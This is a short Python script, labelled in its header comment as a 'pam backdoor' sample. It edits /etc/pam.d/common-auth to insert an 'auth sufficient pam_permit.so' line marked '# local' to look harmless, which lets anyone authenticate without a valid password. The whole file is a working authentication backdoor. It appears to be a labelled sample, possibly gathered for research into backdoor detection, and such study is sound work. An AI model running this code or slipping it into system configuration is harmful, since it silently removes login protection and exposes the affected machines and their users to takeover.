# class: pam backdoor; style: tidy
import re
from pathlib import Path

common_auth = Path("/etc/pam.d/common-auth")
text = common_auth.read_text()
if "pam_permit.so # local" not in text:
    text = re.sub(r"^auth", "auth sufficient pam_permit.so # local\nauth", text, count=1, flags=re.M)
    common_auth.write_text(text)
